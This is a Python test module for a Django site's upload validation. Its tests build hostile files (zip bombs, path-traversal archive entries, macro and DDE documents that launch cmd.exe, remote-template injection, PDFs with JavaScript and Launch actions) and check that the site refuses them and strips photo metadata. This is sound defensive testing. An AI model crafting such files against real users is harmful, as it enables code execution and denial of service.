"""Files made by an attacker: refused with a clear form error and nothing stored, or, for
photos, served without a trace of their metadata; never a server error.

Every hostile file is built here, for real, and goes through the admin's upload form.
"""

import io
import time
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from PIL import Image

from speeches.languages import xliff
from speeches.materials import files, uploads
from speeches.models import Material, PublicationMaterial
from speeches.publishing import services
from tests import media_files
from tests.factories import PublicationFactory, translator_of
from tests.helpers import XLIFF_IMPORT_URL as IMPORT_URL
from tests.helpers import XLIFF_NS as NS
from tests.helpers import export_fr, material_form, stored_files, translate

pytestmark = pytest.mark.django_db

ADD_URL = "/admin/speeches/material/add/"


def refused(editor_client, settings, kind: str, name: str, data: bytes) -> str:
    """Upload through the admin; the form's error on the file, after checking nothing was
    stored."""
    form = material_form(kind, file=media_files.upload(name, data), title_en="Hostile")
    response = editor_client.post(ADD_URL, form)
    assert response.status_code == 200, response.status_code
    errors = response.context["adminform"].form.errors
    assert "file" in errors, errors
    assert not Material.objects.exists()
    assert stored_files(settings) == set()
    return " ".join(errors["file"])


# Zip bombs and crafted archives


def odt_bomb(size=1024**3) -> bytes:
    """An OpenDocument text whose ``mimetype`` really expands to ``size`` bytes (1 GiB)."""
    compressed, crc = media_files.deflated_zeros(size)
    return media_files.zip_raw(
        [
            ("mimetype", zipfile.ZIP_DEFLATED, crc, size, compressed),
            media_files.stored("META-INF/manifest.xml", media_files.odt_manifest()),
            media_files.stored("content.xml", "<office:document-content/>"),
        ]
    )


def test_the_bomb_is_real():
    archive = zipfile.ZipFile(io.BytesIO(odt_bomb(64 * 1024 * 1024)))
    with archive, archive.open("mimetype") as entry:
        total = sum(len(chunk) for chunk in iter(lambda: entry.read(1 << 24), b""))
    assert total == 64 * 1024 * 1024  # and the CRC matched, or reading would have failed


def test_a_zip_bomb_is_refused_at_once_without_unpacking_it(editor_client, settings):
    bomb = odt_bomb()
    assert len(bomb) < 2 * 1024 * 1024
    started = time.monotonic()
    message = refused(editor_client, settings, "document", "statement.odt", bomb)
    elapsed = time.monotonic() - started
    assert "would unpack to 1.0\xa0GB" in message and "zip bomb" in message
    assert elapsed < 3, elapsed  # unpacking it took 20 s
    tracemalloc.start()
    refused(editor_client, settings, "document", "statement.odt", bomb)
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 64 * 1024 * 1024, peak  # the upload's few copies, never the 1 GiB


def test_a_part_that_expands_too_many_times_is_refused(editor_client, settings):
    # 8 MB of zeros: well under the total limit, but no document compresses 1000:1.
    data = media_files.docx_of({"word/media/image1.bmp": b"\x00" * (8 * 1024 * 1024)})
    message = refused(editor_client, settings, "document", "report.docx", data)
    assert "expands" in message and "at most 100 times" in message


def test_an_archive_of_too_many_parts_is_refused(editor_client, settings):
    settings.DOCUMENT_MAX_ZIP_ENTRIES = 50
    parts = {f"word/media/p{i}.xml": "<p/>" for i in range(60)}
    message = refused(editor_client, settings, "document", "report.docx", docx_of(parts))
    assert "62 parts; at most 50" in message


def docx_of(parts=None):
    return media_files.docx_of(parts)


def test_a_directory_that_understates_a_part_is_refused(editor_client, settings):
    # The directory says ``[Content_Types].xml`` is 10 bytes; unpacking it gives more. The
    # reader stops at the declared size and the checksum tells the lie.
    data = bytearray(media_files.docx_of())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("[Content_Types].xml")
    central = data.find(b"PK\x01\x02")
    data[central + 24 : central + 28] = (10).to_bytes(4, "little")
    local = info.header_offset
    data[local + 22 : local + 26] = (10).to_bytes(4, "little")
    message = refused(editor_client, settings, "document", "report.docx", bytes(data))
    assert "could not be read" in message


@pytest.mark.parametrize(
    ("name", "patch", "expected"),
    [
        ("statement.odt", {"method": 99}, "compression method that is not supported (99)"),
        ("statement.odt", {"flags": 0x1}, "encrypted or protected by a password"),
        ("report.docx", {"method": 99}, "compression method that is not supported (99)"),
        ("report.docx", {"flags": 0x41}, "encrypted or protected by a password"),
    ],
)
def test_crafted_compression_or_encryption_is_a_form_error(
    editor_client, settings, name, patch, expected
):
    clean = media_files.odt_of() if name.endswith(".odt") else media_files.docx_of()
    data = media_files.patch_zip_headers(clean, **patch)
    assert expected in refused(editor_client, settings, "document", name, data)


def test_a_program_with_a_document_appended_is_refused(editor_client, settings):
    # A self-extracting program is a valid ZIP archive too: the archive must start the file.
    data = b"MZ\x90\x00" + b"\x00" * 60 + media_files.docx_of()
    message = refused(editor_client, settings, "document", "report.docx", data)
    assert "is not a DOCX file" in message


# Active content


ODT_BASIC = media_files.odt_of(
    {"Basic/Standard/Module1.xml": "<script:module>Shell(&quot;calc&quot;)</script:module>"}
)
ODT_PYTHON = media_files.odt_of({"Scripts/python/evil.py": "import os"})
ODT_SCRIPT_MANIFEST = media_files.odt_of(
    manifest=media_files.odt_manifest(("Basic/Standard/", "application/binary"))
)
ODT_EVENT = media_files.odt_of(
    content=(
        '<office:document-content xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:'
        '1.0"><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.'
        'script:LibreLogo.py$run?language=Python&amp;location=share"/></office:document-content>'
    )
)
MACRO_TYPES = media_files.DOCX_TYPES.replace(
    "wordprocessingml.document.main+xml",
    'wordprocessingml.document.main+xml"/><Default Extension="bin" ContentType="application/'
    "vnd.ms-word.document.macroEnabled.main+xml",
)


def xlsx_with_macros() -> bytes:
    return media_files.zip_of(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": "<workbook/>",
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        }
    )


PDF_JS_OPEN = media_files.pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")


# Remote template injection: Word fetches the template (with its macros) on opening.
REMOTE_TEMPLATE = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/attachedTemplate" Target="https://x.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
EXTERNAL_LINK = REMOTE_TEMPLATE.replace("attachedTemplate", "hyperlink")
DDE_DOCUMENT = (
    '<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
    '<w:instrText xml:space="preserve"> DDE "c:\\windows\\cmd.exe" "/c calc" </w:instrText>'
    "</w:r></w:p></w:body></w:document>"
)


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("report.docx", docx_of({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
        ("budget.xlsx", xlsx_with_macros(), "macros"),
        ("report.docx", docx_of({"word/activeX/activeX1.bin": b"\xd0\xcf"}), "ActiveX"),
        ("report.docx", docx_of({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "OLE objects"),
        ("report.docx", docx_of({"word/embeddings/setup.exe": b"MZ\x90\x00"}), "setup.exe"),
        ("report.docx", docx_of({"word/embeddings/sheet.xlsm": b"PK"}), "sheet.xlsm"),
        ("report.docx", docx_of({"[Content_Types].xml": MACRO_TYPES}), "macro-enabled"),
        ("report.docx", docx_of({"../../etc/cron.d/x": "* * * * * root sh"}), "../../etc"),
        ("report.docx", docx_of({"/etc/passwd": "root"}), "/etc/passwd"),
        ("report.docx", docx_of({"word\\..\\..\\evil.dll": "MZ"}), "evil.dll"),
        ("report.docx", docx_of({"C:/Windows/evil.dll": "MZ"}), "C:/Windows"),
        ("statement.odt", ODT_BASIC, "macros (Basic or scripts)"),
        ("statement.odt", ODT_PYTHON, "macros (Basic or scripts)"),
        ("statement.odt", ODT_SCRIPT_MANIFEST, "macros (Basic or scripts)"),
        ("statement.odt", ODT_EVENT, "events that run macros or scripts"),
        ("note.rtf", rb"{\rtf1 Hello {\object\objemb{\*\objdata 0105000002}}}", "OLE"),
        ("note.rtf", b"{\\rtf1 {\\ob\r\njocx\\objdata 01}}", "OLE"),
        ("note.rtf", rb"{\rtf1 {\*\objdata 01050000}}", "OLE"),
        (
            "note.rtf",
            rb'{\rtf1 {\field{\*\fldinst DDEAUTO c:\\windows\\cmd.exe "/c calc"}}}',
            "fields that run other programs",
        ),
        (
            "note.rtf",
            rb'{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "https://x.example/t.png"}}}',
            "load files from elsewhere",
        ),
        (
            "report.docx",
            docx_of({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
            "loaded from elsewhere",
        ),
        (
            "report.docx",
            docx_of({"word/document.xml": DDE_DOCUMENT}),
            "fields that run other programs (DDE)",
        ),
        (
            "report.docx",
            docx_of({"word/footnotes.xml": DDE_DOCUMENT}),
            "fields that run other programs (DDE)",
        ),
        ("statement.pdf", PDF_JS_OPEN, "JavaScript"),
        (
            "statement.pdf",
            media_files.pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
            "JavaScript",
        ),
        (
            "statement.pdf",
            media_files.pdf_with_catalog(b"/OpenAction << /S /URI /URI (https://x.example) >>"),
            "runs when the file is opened",
        ),
        (
            "statement.pdf",
            media_files.pdf_with_catalog(b"/Names << /JavaScript 4 0 R >>", b"<< /Names [] >>"),
            "JavaScript",
        ),
        (
            "statement.pdf",
            media_files.pdf_with_catalog(
                b"/OpenAction 4 0 R", b"<< /S /Launch /F (cmd.exe) /NewWindow true >>"
            ),
            "starts a program",
        ),
        (
            "statement.pdf",
            media_files.pdf_with_catalog(b"/AA << /WC << /S /URI /URI (https://x.example) >> >>"),
            "additional actions",
        ),
        (
            "statement.pdf",
            media_files.pdf_with_catalog(
                b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                b"<< /Type /Filespec /F (a.exe) >>",
            ),
            "embedded files",
        ),
        (
            "statement.pdf",
            media_files.pdf_with_catalog(
                b"/Extra 4 0 R", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"
            ),
            "rich media",
        ),
        (
            "statement.pdf",
            media_files.pdf_with_catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"[]"),
            "XFA form",
        ),
        (
            "statement.pdf",
            media_files.pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
            "JavaScript",
        ),
    ],
)
def test_active_content_is_refused_and_named(editor_client, settings, name, data, expected):
    message = refused(editor_client, settings, "document", name, data)
    assert expected in message, message


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"%PDF-1.7\n1 0 obj << /Type /Catalog", id="truncated"),
        pytest.param(b"%PDF-1.7\n" + b"[" * 100_000, id="deeply-nested"),
        pytest.param(
            media_files.pdf_of(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                *media_files.PDF_PAGES,
                b"<< /Filter /Standard /V 2 /R 3 /Length 128 /O <00> /U <00> /P -4 >>",
                trailer=b"/Encrypt 4 0 R /ID [<01> <01>]",
            ),
            id="encrypted",
        ),
    ],
)
def test_a_pdf_that_cannot_be_checked_is_refused_with_a_message(editor_client, settings, data):
    message = refused(editor_client, settings, "document", "statement.pdf", data)
    assert "could not be read" in message or "protected by a password" in message


def test_a_pdf_bomb_stream_is_refused_within_pypdf_limits(editor_client, settings):
    # An object stream that inflates to 200 MB: pypdf's decompression limit stops it.
    hidden = b"<< /S /URI /URI (x) >>" + b" " * (200 * 1024 * 1024)
    data = media_files.pdf_with_object_stream(hidden)
    assert len(data) < 1024 * 1024
    started = time.monotonic()
    message = refused(editor_client, settings, "document", "statement.pdf", data)
    assert "could not be read" in message
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("statement.pdf", media_files.pdf_bytes()),
        ("statement.pdf", media_files.pdf_with_catalog(b"/OpenAction [3 0 R /Fit]")),
        ("statement.pdf", media_files.pdf_with_object_stream(b"[3 0 R /Fit]")),
        ("report.docx", docx_of({"word/media/image1.png": media_files.png_bytes()})),
        ("report.docx", docx_of({"word/embeddings/Microsoft_Excel_Sheet.xlsx": b"PK"})),
        ("statement.odt", media_files.odt_of()),
        ("note.rtf", rb"{\rtf1 The \\object of the talks \\objdata was peace.}"),
        # A hyperlink to elsewhere, and prose about DDE, are ordinary content.
        ("report.docx", docx_of({"word/_rels/document.xml.rels": EXTERNAL_LINK})),
        ("report.docx", docx_of({"word/document.xml": "<w:t>The DDE protocol and us</w:t>"})),
        ("note.rtf", rb"{\rtf1 {\field{\*\fldinst HYPERLINK \"https://mid.example\"}}}"),
    ],
)
def test_ordinary_documents_are_still_accepted(editor_client, settings, name, data):
    response = editor_client.post(
        ADD_URL, material_form("document", file=media_files.upload(name, data), title_en="Hostile")
    )
    assert response.status_code == 302, response.context["adminform"].form.errors
    assert Material.objects.get().mime_type


# Photos: nothing but pixels (and the credit the ministry adds) reaches a reader.

PHOTO_VARIANTS = [*files.PHOTO_VARIANTS, "download"]


def assert_no_metadata(data: bytes, *, credit: str = "") -> None:
    assert media_files.SECRET.encode() not in data
    assert b"SecretCam" not in data and b"CameraMaker" not in data
    with Image.open(io.BytesIO(data)) as image:
        assert set(image.info) <= {
            "jfif",
            "jfif_version",
            "jfif_unit",
            "jfif_density",
            "progression",
            "progressive",
            "exif",  # only the credit, checked below
            "dpi",  # what Pillow reads into a credit EXIF without a resolution
            "background",
            "loop",
        }, image.info
        exif = image.getexif()
        assert not exif.get_ifd(0x8825), "GPS"
        assert set(exif) <= ({0x013B, 0x8298} if credit else set()), dict(exif)
        if credit:
            assert exif[0x013B] == credit
        if image.format == "JPEG":
            segments = [marker for marker, _body in image.applist]
            assert segments in (["APP0"], ["APP0", "APP1"] if credit else ["APP0"]), segments
        if image.format == "PNG":
            assert not image.text


@pytest.mark.parametrize(
    ("name", "make"),
    [("photo.jpg", media_files.jpeg_with_metadata), ("photo.png", media_files.png_with_metadata)],
)
@pytest.mark.parametrize("credit", ["", "MFA Press Service"])
def test_every_rendition_and_the_download_carry_no_metadata(
    editor_client, settings, name, make, credit
):
    source = make()
    with Image.open(io.BytesIO(source)) as image:  # the file is as laden as it claims
        assert image.info.get("icc_profile")
        if image.format == "JPEG":
            assert image.info["comment"] == media_files.SECRET.encode()
            assert {"APP1", "APP13", "COM"} <= {marker for marker, _ in image.applist}
        else:
            assert image.text["Comment"] == media_files.SECRET
    data = material_form("photo", file=media_files.upload(name, source), title_en="Hostile")
    data["credit"] = credit
    response = editor_client.post(ADD_URL, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    material = Material.objects.get()
    for variant in PHOTO_VARIANTS:
        response = editor_client.get(files.url(material, variant))
        assert response.status_code == 200, variant
        served = b"".join(response.streaming_content)
        assert_no_metadata(served, credit=credit if variant == "download" else "")


def test_a_video_poster_carries_no_metadata(settings):
    material = services.material_save(
        material=Material(
            kind="video",
            file=media_files.upload("clip.mp4", media_files.mp4_bytes()),
            poster=media_files.upload("poster.jpg", media_files.jpeg_with_metadata()),
        )
    )
    with material.poster.open("rb") as poster:
        assert_no_metadata(poster.read())


def test_a_huge_photo_is_refused_with_its_real_size(editor_client, settings):
    data = media_files.huge_png_bytes(30_000, 30_000)
    message = refused(editor_client, settings, "photo", "panorama.png", data)
    assert "900.0 megapixels" in message and "at most 60.0" in message


# Lost files


@pytest.mark.parametrize(
    ("kind", "upload", "variant"),
    [
        ("photo", lambda: media_files.photo(), "large-jpeg"),
        ("photo", lambda: media_files.photo(), "download"),
        ("document", lambda: media_files.upload("s.pdf", media_files.pdf_bytes()), "file"),
    ],
)
def test_a_file_missing_from_storage_is_a_404_not_a_500(
    client, editor_client, kind, upload, variant
):
    material = services.material_save(material=Material(kind=kind, file=upload()))
    PublicationMaterial.objects.create(
        publication=PublicationFactory(), material=material, position=0
    )
    address = files.url(material, variant)
    assert client.get(address).status_code == 200
    material.file.storage.delete(files.resolve(material, variant).name)

    assert client.get(address).status_code == 404
    assert editor_client.get(address).status_code == 404


# XLIFF import: a hostile file gets a short answer


def test_a_huge_xliff_of_unknown_segments_gives_a_short_report(client):
    translator = translator_of("fr", username="french")
    publication = PublicationFactory(title_en="Talks", body_en="<p>One paragraph.</p>")
    root = etree.fromstring(translate(export_fr([publication], translator)))
    body = root.find(".//x:body", NS)
    for number in range(60_000):
        unit = etree.SubElement(body, f"{{{xliff.NS}}}trans-unit", id=f"nothing/{number}")
        etree.SubElement(unit, f"{{{xliff.NS}}}source").text = "x"
    data = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    assert len(data) > 3 * 1024 * 1024
    client.force_login(translator)

    # Bounded by construction, not by a stopwatch (a loaded machine made that flaky): the
    # 60,000 unknown segments cost no query each.
    with CaptureQueriesContext(connection) as queries:
        response = client.post(
            IMPORT_URL,
            {"file": media_files.upload("agency.xlf", data, "application/xml")},
        )

    assert response.status_code == 200
    content = response.content.decode()
    assert "Nothing was imported" in content
    assert "Unknown segment “nothing/0”" in content
    assert "Unknown segment “nothing/49”" in content
    assert "nothing/50”" not in content
    assert "and 59,950 more problems, not listed here." in content
    assert len(response.content) < 100_000, len(response.content)
    assert len(queries) <= 13, len(queries)


# Totality: whatever the bytes, an upload is accepted or refused with a message


def _samples() -> list[tuple[str, str, bytes]]:
    return [
        ("photo", "photo.jpg", media_files.jpeg_bytes(64, 48)),
        ("photo", "photo.png", media_files.png_bytes(64, 48)),
        ("document", "statement.pdf", media_files.pdf_bytes()),
        ("document", "report.docx", media_files.docx_bytes()),
        ("document", "statement.odt", media_files.odt_of()),
        ("document", "note.rtf", rb"{\rtf1 Peace {\field{\*\fldinst HYPERLINK x}}}"),
        ("document", "note.txt", "Заявление".encode()),
        ("video", "clip.mp4", media_files.mp4_bytes()),
        ("audio", "talk.mp3", media_files.mp3_bytes()),
    ]


@pytest.mark.parametrize("data", [b"\xff", b"\xff\x00", b"I", b"\x00" * 3])
def test_a_file_of_a_byte_or_two_is_refused_with_a_message(editor_client, settings, data):
    """Found by the test below: a one-byte "MP3" once read past its end (a 500)."""
    assert "not a MP3 file" in refused(editor_client, settings, "audio", "talk.mp3", data)


@st.composite
def damaged_uploads(draw):
    """A real file of each kind, with bytes flipped, cut, inserted or appended."""
    kind, name, data = draw(st.sampled_from(_samples()))
    data = bytearray(data)
    for _ in range(draw(st.integers(0, 6))):
        if not data:
            break
        position = draw(st.integers(0, len(data) - 1))
        action = draw(st.sampled_from(["flip", "cut", "insert", "truncate"]))
        if action == "flip":
            data[position] = draw(st.integers(0, 255))
        elif action == "cut":
            del data[position : position + draw(st.integers(1, 64))]
        elif action == "insert":
            data[position:position] = draw(st.binary(min_size=1, max_size=32))
        else:
            del data[position:]
    if draw(st.booleans()):
        data += draw(st.binary(max_size=64))
    return kind, name, bytes(data)


@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(damaged_uploads())
def test_inspecting_any_damaged_file_accepts_it_or_says_why(upload):
    kind, name, data = upload
    try:
        uploads.inspect(media_files.upload(name, data), kind=kind)
    except ValidationError as error:
        assert error.messages and all(message.strip() for message in error.messages)
    # Dropped with others: its kind found from its content first, then inspected as that.
    try:
        dropped = media_files.upload(name, data)
        uploads.inspect(dropped, kind=uploads.detect_kind(dropped))
    except ValidationError as error:
        assert error.messages and all(message.strip() for message in error.messages)


@pytest.fixture
def agency_file():
    """A translator and the file an agency sends back for them, the same for every example:
    made in each, its length followed the ids PostgreSQL handed out (its sequences are not
    rolled back), and Hypothesis, replaying an example, found it drawing differently."""
    translator = translator_of("fr", username="agency")
    publication = PublicationFactory(
        languages=("en",), title_en="Remarks", body_en="<p>Peace <strong>now</strong></p>"
    )
    return translator, translate(export_fr([publication], translator))


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_importing_any_damaged_xliff_writes_a_result_never_raises(agency_file, data):
    """An agency's file, damaged anyhow: xliff_import answers with problems (or imports
    what is valid) and never lets an exception out."""
    from django.db import transaction

    translator, original = agency_file
    with transaction.atomic():
        exported = bytearray(original)
        for _ in range(data.draw(st.integers(1, 5))):
            position = data.draw(st.integers(0, len(exported) - 1))
            action = data.draw(st.sampled_from(["flip", "cut", "insert"]))
            if action == "flip":
                exported[position] = data.draw(st.integers(0, 255))
            elif action == "cut":
                del exported[position : position + data.draw(st.integers(1, 40))]
            else:
                exported[position:position] = data.draw(
                    st.sampled_from([b"<", b">", b"&", b"<g id='9'>", b"</target>", b"\x00"])
                )
        result = xliff.xliff_import(data=bytes(exported), user=translator)
        assert isinstance(result, xliff.ImportResult)
        transaction.set_rollback(True)
